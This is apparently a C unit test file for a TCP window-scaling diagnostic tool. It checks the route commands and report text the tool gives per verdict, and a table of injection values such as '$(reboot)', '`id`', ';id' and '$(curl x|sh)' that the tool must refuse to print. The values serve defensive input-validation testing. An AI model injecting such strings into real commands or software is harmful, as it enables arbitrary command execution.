/*
 * test_advice.c -- what to do per verdict and side, as a table: the exact
 * route command (v4, v6, on link, route unknown), the shift it makes Linux
 * offer, the global fallback, the box to report, and no advice where none
 * is due; with silent hops inside the interval, the interval and never
 * "the box at" its far end.  Then the store's and netlink's strings as an attacker writes
 * them: no command carries one, the text never quotes it, a sentence says
 * why the command is missing.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "advice.h"

#define BOX4 .hop_address = "198.18.5.2", .hop_index = 5, \
	.clean_address = "198.18.4.2", .clean_index = 4
/* a box between two hops, the TTLs between in the set never answered */
#define GAP(hop, k, clean, ck, set) .hop_address = (hop), .hop_index = (k), \
	.clean_address = (clean), .clean_index = (ck), .silent = (set)
/* the 2004 box behind two routers that never answered */
#define GAP4 GAP("198.18.4.2", 4, "198.18.1.2", 1, (1u << 2) | (1u << 3))
#define EXPORT(hop) "scaleprobe export --hop " hop " --pcap DIR"
/* what no advice on a box not located exactly may say */
#define NO_BOX { "box at", "Report the box to its owner" }

static const struct row {
	const char *name;
	struct advice_in in;
	enum advice_side side;
	int rc;
	const char *command;		/* exact; "" none */
	const char *fallback;		/* exact; "" none */
	const char *has[4];		/* in the text */
	const char *not[2];		/* never in the text */
} rows[] = {
	{ "2004 box, client, v4",
	  { VERDICT_REWRITTEN, false, 7, 0, 0, "198.18.100.30", false, 80, "198.18.1.2", "east", BOX4 },
	  ADVICE_CLIENT, 0, "ip route replace 198.18.100.30/32 via 198.18.1.2 dev east window 65535",
	  "sysctl -w net.ipv4.tcp_window_scaling=0",
	  { "from 7 to 0", "offer shift 0", "at most 65535 bytes", "64 KB" }, { "GW and DEV", NULL } },
	{ "2004 box, client, v6",
	  { VERDICT_REWRITTEN, false, 14, 0, 0, "fd00:5ca1:100::30", true, 80, "fd00:5ca1:1::2", "east", BOX4 },
	  ADVICE_CLIENT, 0,
	  "ip -6 route replace fd00:5ca1:100::30/128 via fd00:5ca1:1::2 dev east window 65535",
	  "sysctl -w net.ipv4.tcp_window_scaling=0", { "from 14 to 0", NULL, NULL, NULL }, { NULL, NULL } },
	{ "a cap at 7: scale 7 came through, the route offers 7",
	  { VERDICT_REWRITTEN, false, 14, 7, 7, "192.0.2.1", false, 443, "10.0.0.1", "eth0", BOX4 },
	  ADVICE_CLIENT, 0, "ip route replace 192.0.2.1/32 via 10.0.0.1 dev eth0 window 8388480",
	  "sysctl -w net.ipv4.tcp_window_scaling=0", { "offer shift 7", "8388480 bytes", NULL, NULL },
	  { NULL, NULL } },
	{ "set to 5 whatever is sent: nothing came through, offer what the box writes",
	  { VERDICT_REWRITTEN, false, 7, 5, -1, "192.0.2.2", false, 80, "10.0.0.1", "eth0", BOX4 },
	  ADVICE_CLIENT, 0, "ip route replace 192.0.2.2/32 via 10.0.0.1 dev eth0 window 2097120",
	  "sysctl -w net.ipv4.tcp_window_scaling=0", { "offer shift 5", NULL, NULL, NULL }, { NULL, NULL } },
	{ "on link: no gateway",
	  { VERDICT_REWRITTEN, false, 7, 0, 0, "192.0.2.3", false, 80, NULL, "eth1", BOX4 },
	  ADVICE_CLIENT, 0, "ip route replace 192.0.2.3/32 dev eth1 window 65535",
	  "sysctl -w net.ipv4.tcp_window_scaling=0", { NULL, NULL, NULL, NULL }, { "GW and DEV", NULL } },
	{ "no route known here: placeholders and how to fill them",
	  { VERDICT_REWRITTEN, false, 7, 0, 0, "192.0.2.4", false, 80, NULL, NULL, BOX4 },
	  ADVICE_CLIENT, 0, "ip route replace 192.0.2.4/32 via GW dev DEV window 65535",
	  "sysctl -w net.ipv4.tcp_window_scaling=0", { "ip route get 192.0.2.4", NULL, NULL, NULL },
	  { NULL, NULL } },
	{ "2004 box, server side: fix or bypass, scaling off, the box to report",
	  { VERDICT_REWRITTEN, false, 7, 0, 0, "198.18.100.30", false, 80, "198.18.1.2", "east", BOX4 },
	  ADVICE_SERVER, 0, "scaleprobe export --hop 198.18.5.2 --pcap DIR",
	  "sysctl -w net.ipv4.tcp_window_scaling=0",
	  { "fixed or bypassed", "address 198.18.5.2 (hop 5), last clean hop 198.18.4.2 (hop 4)",
	    "export --hop 198.18.5.2 --pcap DIR", "64 KB" }, { "ip route", NULL } },
	{ "raised shift, client: only the owner",
	  { VERDICT_REWRITTEN, true, 0, 14, 14, "198.18.100.35", false, 80, "198.18.1.2", "east", BOX4 },
	  ADVICE_CLIENT, 0, "scaleprobe export --hop 198.18.5.2 --pcap DIR", "",
	  { "raises", "from 0 to 14", "overruns", "Only the box's owner can fix it" },
	  { "ip route", NULL } },
	{ "raised shift, server",
	  { VERDICT_REWRITTEN, true, 7, 14, 14, "198.18.100.35", false, 80, NULL, NULL, BOX4 },
	  ADVICE_SERVER, 0, "scaleprobe export --hop 198.18.5.2 --pcap DIR", "",
	  { "clients offer", "Only the box's owner can fix it", "last clean hop 198.18.4.2", NULL },
	  { "ip route", NULL } },
	{ "stripped, client: no fix needed",
	  { VERDICT_STRIPPED, false, 7, -1, -1, "198.18.100.15", false, 80, "198.18.1.2", "east", BOX4 },
	  ADVICE_CLIENT, 0, "", "", { "no fix is needed", "capped at 64 KB", NULL, NULL },
	  { "ip route", "Report" } },
	{ "stripped, server: the cost, the box if throughput matters",
	  { VERDICT_STRIPPED, false, 7, -1, -1, "198.18.100.15", false, 80, NULL, NULL, BOX4 },
	  ADVICE_SERVER, 0, "scaleprobe export --hop 198.18.5.2 --pcap DIR", "",
	  { "no fix is needed", "capped at 64 KB", "Report the box", NULL }, { NULL, NULL } },
	{ "syn-dropped: connections fail, only the owner",
	  { VERDICT_SYN_DROPPED, false, 7, -1, -1, "198.18.100.16", false, 80, "198.18.1.2", "east", BOX4 },
	  ADVICE_CLIENT, 0, "scaleprobe export --hop 198.18.5.2 --pcap DIR", "",
	  { "drops SYNs", "fail", "Only the box's owner can fix it", NULL }, { "ip route", NULL } },
	{ "syn-dropped, box not located",
	  { VERDICT_SYN_DROPPED, false, 7, -1, -1, "198.18.100.16", false, 80, NULL, NULL, NULL, -1, NULL, -1, 0 },
	  ADVICE_SERVER, 0, "", "", { "A box on the path (not located", "export --pcap DIR", NULL, NULL },
	  { NULL, NULL } },
	/* silent hops inside the interval: no hop is named as the box, the
	 * interval's ends are, and which hops did not answer */
	{ "hops 2-3 silent, 2004 box, client: the interval, no box named",
	  { VERDICT_REWRITTEN, false, 7, 0, 0, "198.18.100.33", false, 80, "198.18.1.2", "east", GAP4 },
	  ADVICE_CLIENT, 0, "ip route replace 198.18.100.33/32 via 198.18.1.2 dev east window 65535",
	  "sysctl -w net.ipv4.tcp_window_scaling=0",
	  { "the box somewhere between 198.18.1.2 (hop 1) and 198.18.4.2 (hop 4)",
	    "(hops 2-3 did not answer)", "from 7 to 0", NULL }, { "box at", "(hop 4, after" } },
	{ "hops 2-3 silent, 2004 box, server: report the stretch, not the box at hop 4",
	  { VERDICT_REWRITTEN, false, 7, 0, 0, "198.18.100.33", false, 80, "198.18.1.2", "east", GAP4 },
	  ADVICE_SERVER, 0, EXPORT("198.18.4.2"), "sysctl -w net.ipv4.tcp_window_scaling=0",
	  { "not located exactly: hops 2-3 did not answer", "one of hops 2 to 4 or a link",
	    "path between 198.18.1.2 (hop 1) and 198.18.4.2 (hop 4)", "export --hop 198.18.4.2" },
	  NO_BOX },
	{ "hop 4 silent, raised shift, server",
	  { VERDICT_REWRITTEN, true, 7, 14, 14, "198.18.100.35", false, 80, NULL, NULL,
	    GAP("198.18.5.2", 5, "198.18.3.2", 3, 1u << 4) }, ADVICE_SERVER, 0,
	  EXPORT("198.18.5.2"), "", { "The box somewhere between 198.18.3.2 (hop 3) and "
	  "198.18.5.2 (hop 5) (hop 4 did not answer) raises", "one of hops 4 to 5", NULL, NULL },
	  NO_BOX },
	{ "hops 1-2 silent after the prober, syn-dropped, server",
	  { VERDICT_SYN_DROPPED, false, 7, -1, -1, "198.18.100.16", false, 80, NULL, NULL,
	    GAP("198.18.3.2", 3, NULL, 0, (1u << 1) | (1u << 2)) }, ADVICE_SERVER, 0,
	  EXPORT("198.18.3.2"), "", { "between this host (hop 0) and 198.18.3.2 (hop 3) (hops "
	  "1-2 did not answer)", "one of hops 1 to 3", NULL, NULL }, NO_BOX },
	{ "hop 2 silent, stripped, server",
	  { VERDICT_STRIPPED, false, 7, -1, -1, "198.18.100.15", false, 80, NULL, NULL,
	    GAP("198.18.3.2", 3, "198.18.1.2", 1, 1u << 2) }, ADVICE_SERVER, 0,
	  EXPORT("198.18.3.2"), "", { "The box somewhere between 198.18.1.2 (hop 1) and "
	  "198.18.3.2 (hop 3) (hop 2 did not answer) removes", "one of hops 2 to 3", NULL, NULL },
	  NO_BOX },
	{ "ok: nothing to do",
	  { VERDICT_OK, false, 7, 7, 7, "198.18.100.1", false, 80, NULL, NULL, NULL, -1, NULL, -1, 0 },
	  ADVICE_CLIENT, -1, "", "", { NULL, NULL, NULL, NULL }, { NULL, NULL } },
	{ "closed: not a path problem",
	  { VERDICT_CLOSED, false, 7, -1, -1, "198.18.100.3", false, 9, NULL, NULL, NULL, -1, NULL, -1, 0 },
	  ADVICE_SERVER, -1, "", "", { NULL, NULL, NULL, NULL }, { NULL, NULL } },
};

static void
test_advice_table(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		const struct row *r = &rows[i];
		struct advice a;
		int rc = advice_for(&r->in, r->side, &a);

		print_message("# %s: %s\n", r->name, a.command);
		assert_int_equal(rc, r->rc);
		if (rc != 0)
			continue;
		assert_string_equal(a.command, r->command);
		assert_string_equal(a.fallback, r->fallback);
		for (int k = 0; k < 4; k++)
			if (r->has[k] != NULL && strstr(a.text, r->has[k]) == NULL)
				fail_msg("%s: '%s' not in: %s", r->name, r->has[k], a.text);
		for (int k = 0; k < 2; k++)
			if (r->not[k] != NULL && strstr(a.text, r->not[k]) != NULL)
				fail_msg("%s: '%s' in: %s", r->name, r->not[k], a.text);
		/* one paragraph, never cut by its buffer */
		assert_null(strchr(a.text, '\n'));
		assert_true(strlen(a.text) + 1 < sizeof(a.text));
		assert_true(a.text[strlen(a.text) - 1] == '.' || a.text[strlen(a.text) - 1] == ')');
	}
}

/* What an edited store or a strange device name may hold, field by field:
 * shell syntax, a newline, quotes, a terminal's escape, the wrong family,
 * an address's near misses.  For each, the command that would carry it is
 * left out, the reason is in the text, and nothing of it is quoted. */
enum field { F_DST, F_GW, F_DEV, F_HOP, F_CLEAN };

static const struct attack {
	enum field field;
	const char *value;
	const char *why;		/* in the text; NULL: the command stays */
} attacks[] = {
	{ F_DST, "$(reboot)", "destination's address in the store is not a valid IPv4" },
	{ F_DST, "`id`", "not a valid IPv4" },
	{ F_DST, "198.18.100.30;id", "not a valid IPv4" },
	{ F_DST, "198.18.100.30 && id", "not a valid IPv4" },
	{ F_DST, "198.18.100.30\nreboot", "not a valid IPv4" },
	{ F_DST, "198.18.100.30'$(id)'", "not a valid IPv4" },
	{ F_DST, "198.18.100.30\x1b[2J", "not a valid IPv4" },
	{ F_DST, "198.18.100.030", "not a valid IPv4" },
	{ F_DST, "198.18.100.30/24", "not a valid IPv4" },
	{ F_DST, "fd00::30", "not a valid IPv4" },		/* the wrong family */
	{ F_DST, "", "not a valid IPv4" },
	{ F_GW, "198.18.1.2;id", "gateway of this host's route" },
	{ F_GW, "$(id)", "gateway" },
	{ F_GW, "fd00::1", "gateway" },
	{ F_DEV, "east;id", "device of this host's route" },
	{ F_DEV, "$(id)", "device" },
	{ F_DEV, "`id`", "device" },
	{ F_DEV, "east\nid", "device" },
	{ F_DEV, "e'ast", "device" },
	{ F_DEV, "-force", "device" },
	{ F_DEV, "..", "device" },
	{ F_DEV, "a23456789012345x", "device" },		/* IFNAMSIZ long */
	{ F_DEV, "e\x1b[2J", "device" },
	{ F_DEV, "east 0", "device" },
	{ F_DEV, "", "device" },
	{ F_DEV, "a23456789012345", NULL },
	{ F_DEV, "br-lan.100_x", NULL },
	{ F_HOP, "$(curl x|sh)", "box's address in the store is not a valid" },
	{ F_HOP, "198.18.5.2;id", "box's address" },
	{ F_HOP, "198.18.5.2\n", "box's address" },
	{ F_HOP, "x'$(id)'", "box's address" },
	{ F_CLEAN, "$(id)", NULL },
	{ F_CLEAN, "198.18.4.2`id`", NULL },
};

/* Every byte of a printed command is one a shell reads as a plain word. */
static void
plain_command(const char *cmd)
{
	for (const char *p = cmd; *p != '\0'; p++)
		if (strchr("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 ._/:-", *p)
		    == NULL)
			fail_msg("'%c' in the command: %s", *p, cmd);
}

static void
test_attacks(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		const struct attack *t = &attacks[i];
		struct advice_in in = { VERDICT_REWRITTEN, false, 7, 0, 0, "198.18.100.30", false, 80,
		    "198.18.1.2", "east", BOX4 };
		const char **f[] = { &in.address, &in.gw, &in.dev, &in.hop_address, &in.clean_address };
		enum advice_side side = t->field == F_HOP ? ADVICE_SERVER : ADVICE_CLIENT;
		struct advice a;

		*f[t->field] = t->value;
		assert_int_equal(advice_for(&in, side, &a), 0);
		print_message("# %d '%s': %s | %s\n", t->field, t->value, a.command, a.text);
		if (t->why != NULL) {
			assert_string_equal(a.command, "");
			if (strstr(a.text, t->why) == NULL)
				fail_msg("'%s': '%s' not in: %s", t->value, t->why, a.text);
			assert_non_null(strstr(a.text, "o command is printed: "));
		} else {
			assert_true(a.command[0] != '\0');
			assert_null(strstr(a.text, "o command is printed"));
		}
		plain_command(a.command);
		/* the attack is never quoted, in the command or in the text */
		if (t->value[0] != '\0' && t->field != F_DEV)
			assert_null(strstr(a.text, t->value));
		if (t->field == F_DEV && t->why != NULL && t->value[0] != '\0')
			assert_null(strstr(a.text, t->value));
		for (const char *bad = "$`\n\x1b|&"; *bad != '\0'; bad++)
			assert_null(strchr(a.text, *bad));
		assert_true(strlen(a.text) + 1 < sizeof(a.text));
		if (t->field == F_DST || t->field == F_HOP || t->field == F_CLEAN)
			assert_non_null(strstr(a.text, "(an address the store holds is not valid)"));
	}
}

/* An address is printed as inet_ntop writes its bytes: the store's
 * spelling of it (zeros, case) never reaches the command. */
static void
test_canonical(void **state)
{
	struct advice_in in = { VERDICT_REWRITTEN, false, 14, 0, 0, "FD00:5CA1:0100:0000::0030", true,
	    80, "fd00:5ca1:1:0::2", "east", .hop_address = "FD00::5", .hop_index = 5,
	    .clean_address = NULL, .clean_index = -1 };
	struct advice a;

	(void)state;
	assert_int_equal(advice_for(&in, ADVICE_CLIENT, &a), 0);
	assert_string_equal(a.command,
	    "ip -6 route replace fd00:5ca1:100::30/128 via fd00:5ca1:1::2 dev east window 65535");
	assert_int_equal(advice_for(&in, ADVICE_SERVER, &a), 0);
	assert_string_equal(a.command, "scaleprobe export --hop fd00::5 --pcap DIR");
	assert_true(advice_dev_ok("eth0"));
	assert_false(advice_dev_ok(NULL));
}

/* The window that makes Linux offer shift s: ilog2(window) - 15 == s
 * (tcp_select_initial_window), and it is the largest window s can carry. */
static void
test_route_window_shift(void **state)
{
	(void)state;
	for (int s = 0; s <= 14; s++) {
		struct advice_in in = { VERDICT_REWRITTEN, false, 14, s, -1, "192.0.2.9", false, 80,
		    "10.0.0.1", "eth0", NULL, -1, NULL, -1, 0 };
		struct advice a;
		unsigned long w = 0, lg = 0;
		const char *p;

		assert_int_equal(advice_route_shift(&in), s);
		assert_int_equal(advice_for(&in, ADVICE_CLIENT, &a), 0);
		assert_non_null(p = strstr(a.command, " window "));
		w = strtoul(p + 8, NULL, 10);
		for (unsigned long x = w; x > 1; x >>= 1)
			lg++;
		assert_int_equal((long)lg - 15, s);
		assert_int_equal(w, 65535ul << s);
	}
	/* what came through wins over what the box writes; unknown: -1 */
	struct advice_in in = { VERDICT_REWRITTEN, false, 14, 0, 7, "192.0.2.9", false, 80,
	    NULL, NULL, NULL, -1, NULL, -1, 0 };
	assert_int_equal(advice_route_shift(&in), 7);
	in.ok_scale = -1;
	in.scale_applied = -1;
	assert_int_equal(advice_route_shift(&in), -1);
	assert_string_equal(advice_side_name(ADVICE_CLIENT), "client");
	assert_string_equal(advice_side_name(ADVICE_SERVER), "server");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_advice_table),
		cmocka_unit_test(test_route_window_shift),
		cmocka_unit_test(test_attacks),
		cmocka_unit_test(test_canonical),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
